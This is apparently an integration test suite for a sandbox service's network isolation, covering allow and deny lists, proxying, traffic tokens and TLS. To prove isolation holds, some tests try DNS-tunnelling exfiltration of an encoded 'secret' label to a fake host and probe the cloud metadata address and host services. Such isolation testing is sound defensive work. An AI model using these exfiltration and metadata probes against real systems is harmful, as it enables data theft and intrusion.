import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { request as httpsRequest } from 'node:https';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { openPaths } from '../../src/config.js';
import { assertNoSandboxLeaks, destroyInstance, newDataDir } from '../helpers/instance.js';
import { HOST_SIDE, OTHER, startFakeInternet, UPSTREAM, type FakeInternet } from '../helpers/fake-internet.js';
import { startWsEcho, wsEchoThrough } from '../helpers/sandbox-servers.js';
import { createKey, sdkService, startService, type E2B, type Service } from '../helpers/service.js';

let e2b: E2B;
let svc: Service;
let dataDir: string;
let inet: FakeInternet;
let hostService: Server;
const created: string[] = [];
type Sbx = Awaited<ReturnType<E2B['Sandbox']['create']>>;

async function newSandbox(opts: Parameters<E2B['Sandbox']['create']>[1] = {}): Promise<Sbx> {
  const sbx = await e2b.Sandbox.create('base', opts);
  created.push(sbx.sandboxId);
  return sbx;
}

/** What a command prints, or FAIL(<exit code>) when it fails: a blocked connection is an answer here. */
async function sh(sbx: Sbx, cmd: string): Promise<string> {
  const r = await sbx.commands.run(`${cmd}\necho " rc=$?"`, { timeoutMs: 30_000 });
  return r.stdout.trim();
}
const fetchIn = (sbx: Sbx, url: string) => sh(sbx, `curl -sS --max-time 4 ${url} 2>&1`);
/** Waits until something inside the sandbox answers HTTP on the port. */
async function waitPort(sbx: Sbx, port: number): Promise<void> {
  await sbx.commands.run(`for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:${port}/ && exit 0; sleep 0.1; done; exit 1`);
}
const reached = (out: string) => /hello from/.test(out) && / rc=0$/.test(out);

/** An HTTP request to the service with the given Host and headers (fetch cannot set Host). */
function get(
  base: string,
  path: string,
  headers: Record<string, string>,
  opts: { https?: boolean } = {},
): Promise<{ status: number; body: string; headers: Record<string, unknown> }> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const req = (opts.https ? httpsRequest : httpRequest)({ host: u.hostname, port: u.port, path, headers, rejectUnauthorized: false }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body, headers: res.headers }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('sandbox networking through cubebox serve and the e2b SDK', { timeout: 900_000 }, () => {
  before(async () => {
    inet = await startFakeInternet();
    // a host service on every address: no sandbox may reach it
    hostService = createServer((s) => s.end('host secret\n'));
    await new Promise<void>((r) => hostService.listen(0, '0.0.0.0', () => r()));
    // the fake internet is a network of the host's own (a connected subnet): blocked unless allowed
    ({ svc, dataDir, e2b } = await sdkService({ CUBEBOX_DNS_UPSTREAM: UPSTREAM, CUBEBOX_POOL: 'base=1', CUBEBOX_ALLOW_PRIVATE: '203.0.113.0/24' }));
  });

  after(async () => {
    for (const id of created) await e2b.Sandbox.kill(id).catch(() => undefined);
    await svc.stop();
    await destroyInstance(undefined, dataDir);
    await inet.close();
    hostService.close();
  });

  it('reaches the internet by name and by address, with its own address, resolv.conf and hosts', async () => {
    const sbx = await newSandbox();
    assert.ok(reached(await fetchIn(sbx, 'http://upstream.test/by-name')));
    assert.ok(reached(await fetchIn(sbx, `http://${OTHER}/by-ip`)));
    const conf = await sh(sbx, 'cat /etc/resolv.conf; grep "$(hostname)" /etc/hosts');
    assert.match(conf, /nameserver 10\./);
    assert.match(conf, new RegExp(`10\\.\\d+\\.\\d+\\.\\d+\\s+${sbx.sandboxId}`));
    // loopback inside works
    assert.match(
      await sh(
        sbx,
        "python3 -c \"import socket;s=socket.socket();s.bind(('127.0.0.1',0));s.listen();c=socket.create_connection(s.getsockname());print('lo ok')\"",
      ),
      /lo ok/,
    );
  });

  it('cannot reach the host, other sandboxes or the metadata address', async () => {
    const a = await newSandbox();
    const b = await newSandbox();
    const port = (hostService.address() as { port: number }).port;
    const gw = (await sh(a, "ip route | awk '/default/ {print $3}'")).split(' ')[0]!;
    for (const target of [`${gw}:${port}`, `${HOST_SIDE}:${port}`, `127.0.0.1:${port}`]) {
      const out = await sh(a, `curl -sS --max-time 3 http://${target}/ 2>&1`);
      assert.doesNotMatch(out, /host secret/, target);
      assert.doesNotMatch(out, / rc=0$/, target);
    }
    const bAddr = (await sh(b, "hostname -I | awk '{print $1}'")).split(' ')[0]!;
    await b.commands.run('python3 -m http.server 8100 >/dev/null 2>&1', { background: true });
    await waitPort(b, 8100);
    assert.match(await sh(b, 'curl -sS --max-time 3 -o /dev/null -w "%{http_code}" http://127.0.0.1:8100/'), /^200 rc=0$/);
    assert.doesNotMatch(await sh(a, `curl -sS --max-time 3 -o /dev/null -w "%{http_code}" http://${bAddr}:8100/ 2>&1`), / rc=0$/);
    assert.doesNotMatch(await sh(a, 'curl -sS --max-time 3 http://169.254.169.254/latest/meta-data/ 2>&1'), / rc=0$/);
  });

  it('allowInternetAccess false and denyOut block; a live update changes it without a restart', async () => {
    const closed = await newSandbox({ allowInternetAccess: false });
    assert.ok(!reached(await fetchIn(closed, `http://${UPSTREAM}/`)));
    assert.equal((await closed.getInfo()).allowInternetAccess, false);
    await closed.updateNetwork({ allowOut: [UPSTREAM], denyOut: ['0.0.0.0/0'] });
    assert.ok(reached(await fetchIn(closed, `http://${UPSTREAM}/`)), 'allowed after the update');
    assert.ok(!reached(await fetchIn(closed, `http://${OTHER}/`)), 'the rest stays denied');
    await closed.updateNetwork({});
    assert.ok(reached(await fetchIn(closed, `http://${OTHER}/`)), 'an empty update opens it again');

    const denied = await newSandbox({ network: { denyOut: [`${OTHER}/32`] } });
    assert.ok(reached(await fetchIn(denied, `http://${UPSTREAM}/`)));
    assert.ok(!reached(await fetchIn(denied, `http://${OTHER}/`)));
    assert.deepEqual((await denied.getInfo()).network?.denyOut, [`${OTHER}/32`]);
  });

  it('a domain allow-list holds against direct addresses, other resolvers and DNS tunnelling', async () => {
    const sbx = await newSandbox({ network: { allowOut: ['upstream.test', '*.allowed.test'], denyOut: ['0.0.0.0/0'] } });
    assert.ok(reached(await fetchIn(sbx, 'http://upstream.test/')));
    assert.ok(reached(await fetchIn(sbx, 'http://api.allowed.test/')));
    assert.ok(!reached(await fetchIn(sbx, 'http://other.test/')), 'a name not allowed does not resolve');
    assert.ok(!reached(await fetchIn(sbx, `http://${OTHER}/`)), 'nor is its address reachable directly');
    // another resolver: the query still reaches only cubebox's forwarder, which refuses it
    const asked = await sh(
      sbx,
      `python3 - <<'EOF'
import socket, struct
q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in 'exfil-c2VjcmV0.other.test'.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ('${OTHER}', 53))
try:
    r = s.recv(512); print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])
except Exception as e:
    print('no answer', e)
EOF`,
    );
    assert.match(asked, /rcode 5 answers 0|no answer/);
    assert.ok(!inet.queries.some((n) => n.includes('exfil')), `the denied name never left the host: ${inet.queries.join(', ')}`);
    assert.ok(!inet.queries.includes('other.test'));
  });

  it('serves a port through the proxy by Host and by header, streaming and WebSocket', async () => {
    const sbx = await newSandbox();
    await sbx.commands.run('cd /tmp && echo served-file > index.txt && python3 -m http.server 8000 >/dev/null 2>&1', { background: true });
    await startWsEcho(sbx, 8001);
    await waitPort(sbx, 8000);
    await sbx.commands.run('for i in $(seq 100); do (echo > /dev/tcp/127.0.0.1/8001) 2>/dev/null && exit 0; sleep 0.1; done; exit 1');
    const host = sbx.getHost(8000);
    assert.equal(host, `8000-${sbx.sandboxId}.localhost:${svc.port}`);
    const byHost = await get(svc.url, '/index.txt', { Host: host });
    assert.equal(byHost.status, 200);
    assert.equal(byHost.body, 'served-file\n');
    const byHeader = await get(svc.url, '/index.txt', { 'E2b-Sandbox-Id': sbx.sandboxId, 'E2b-Sandbox-Port': '8000' });
    assert.equal(byHeader.body, 'served-file\n');
    const closed = await get(svc.url, '/', { Host: sbx.getHost(8999) });
    assert.equal(closed.status, 502);
    assert.deepEqual(JSON.parse(closed.body), { sandboxId: sbx.sandboxId, message: 'The sandbox is running but port is not open', port: 8999, code: 502 });

    // WebSocket: handshake and an echo through the proxy
    const echoed = await wsEchoThrough(svc.port, sbx.getHost(8001), 'ping through the proxy');
    assert.equal(echoed, 'ping through the proxy');
  });

  it('allowPublicTraffic false needs the traffic token; maskRequestHost rewrites Host', async () => {
    const sbx = await newSandbox({ network: { allowPublicTraffic: false, maskRequestHost: 'app.example:${PORT}' } });
    await sbx.commands.run(`cat > /tmp/echo.py <<'EOF'
from http.server import BaseHTTPRequestHandler, HTTPServer
class H(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(('host=' + self.headers['Host'] + ' token=' + str(self.headers.get('e2b-traffic-access-token'))).encode())
HTTPServer(('0.0.0.0', 8002), H).serve_forever()
EOF`);
    await sbx.commands.run('python3 /tmp/echo.py >/dev/null 2>&1', { background: true });
    await waitPort(sbx, 8002);
    const token = sbx.trafficAccessToken;
    assert.ok(token, 'the create response carries a traffic access token');
    const without = await get(svc.url, '/', { Host: sbx.getHost(8002) });
    assert.equal(without.status, 403);
    const wrong = await get(svc.url, '/', { Host: sbx.getHost(8002), 'e2b-traffic-access-token': 'nope' });
    assert.equal(wrong.status, 403);
    const ok = await get(svc.url, '/', { Host: sbx.getHost(8002), 'e2b-traffic-access-token': token });
    assert.equal(ok.status, 200);
    assert.equal(ok.body, 'host=app.example:8002 token=None', 'the host is masked and the token does not reach the sandbox');
    // envd keeps working with its own token
    assert.equal((await sbx.commands.run('echo ok')).stdout, 'ok\n');
  });

  it('a paused sandbox with autoResume wakes on its port traffic', async () => {
    const sbx = await e2b.Sandbox.create('base', { lifecycle: { onTimeout: 'pause', autoResume: true } });
    created.push(sbx.sandboxId);
    await sbx.commands.run('cd /tmp && echo awake > w.txt && python3 -m http.server 8003 >/dev/null 2>&1', { background: true });
    await waitPort(sbx, 8003);
    await sbx.pause();
    assert.equal((await sbx.getInfo()).state, 'paused');
    const r = await get(svc.url, '/w.txt', { Host: sbx.getHost(8003) });
    assert.equal(r.status, 200);
    assert.equal(r.body, 'awake\n');
    assert.equal((await sbx.getInfo()).state, 'running');
  });

  it("the DNS forwarder answers sandboxes only, not the host's other networks", async () => {
    const inst = readFileSync(join(dataDir, 'instance-id'), 'utf8').trim();
    const rules = execFileSync('nft', ['list', 'chain', 'inet', `cubebox_${inst}`, 'prerouting'], { encoding: 'utf8' });
    const port = /redirect to :(\d+)/.exec(rules)?.[1];
    assert.ok(port, rules);
    // a query for an allowed name, from the test's own network namespace to the host's address there
    const probe = `import socket, struct
q = struct.pack('>HHHHHH', 9, 0x100, 1, 0, 0, 0) + b'\\x08upstream\\x04test\\x00' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(q, ('${HOST_SIDE}', ${port}))
try:
    s.recv(512); print('answered')
except Exception:
    print('silent')`;
    const out = execFileSync('ip', ['netns', 'exec', inet.netns, 'python3', '-c', probe], { encoding: 'utf8' });
    assert.equal(out.trim(), 'silent');
  });

  it('refuses what it cannot do with a clear error', async () => {
    await assert.rejects(newSandbox({ network: { allowOut: ['not a domain!'] } }), /allowOut/);
    await assert.rejects(newSandbox({ network: { denyOut: ['example.com'] } }), /denyOut/);
    await assert.rejects(newSandbox({ network: { egressProxy: { address: '127.0.0.1:1080' } } }), /egressProxy\.address/);
  });

  it('leaves no network slot behind after its sandboxes are killed', async () => {
    const sbx = await newSandbox();
    await sbx.kill();
    assertNoSandboxLeaks(openPaths(dataDir, false), sbx.sandboxId);
  });
});

describe('both planes over HTTPS with --tls-cert', { timeout: 600_000 }, () => {
  it('serves the SDK and a sandbox port over TLS', async () => {
    const dir = mkdtempSync('/var/tmp/cubebox-tls-');
    execFileSync(
      'openssl',
      ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=localhost', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem')],
      {
        stdio: 'ignore',
      },
    );
    const data = newDataDir();
    const tlsSvc = await startService(data, { env: { CUBEBOX_TLS_CERT: join(dir, 'cert.pem'), CUBEBOX_TLS_KEY: join(dir, 'key.pem'), CUBEBOX_POOL: '' } });
    const prevTls = process.env.NODE_TLS_REJECT_UNAUTHORIZED;
    const saved = { key: process.env.E2B_API_KEY, api: process.env.E2B_API_URL, sbx: process.env.E2B_SANDBOX_URL };
    try {
      assert.match(tlsSvc.url, /^https:/);
      process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; // a self-signed certificate, made by this test
      process.env.E2B_API_KEY = await createKey(data);
      process.env.E2B_API_URL = tlsSvc.url;
      process.env.E2B_SANDBOX_URL = tlsSvc.url;
      const sbx = await e2b.Sandbox.create('base');
      try {
        assert.equal((await sbx.commands.run('echo over tls')).stdout, 'over tls\n');
        await sbx.commands.run('cd /tmp && echo tls-port > t.txt && python3 -m http.server 8000 >/dev/null 2>&1', { background: true });
        await waitPort(sbx, 8000);
        const r = await get(tlsSvc.url, '/t.txt', { Host: sbx.getHost(8000) }, { https: true });
        assert.equal(r.body, 'tls-port\n');
        assert.equal(readFileSync(join(dir, 'cert.pem'), 'utf8').includes('BEGIN CERTIFICATE'), true);
      } finally {
        await sbx.kill();
      }
    } finally {
      if (prevTls === undefined) delete process.env.NODE_TLS_REJECT_UNAUTHORIZED;
      else process.env.NODE_TLS_REJECT_UNAUTHORIZED = prevTls;
      process.env.E2B_API_KEY = saved.key;
      process.env.E2B_API_URL = saved.api;
      process.env.E2B_SANDBOX_URL = saved.sbx;
      await tlsSvc.stop();
      await destroyInstance(undefined, data);
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
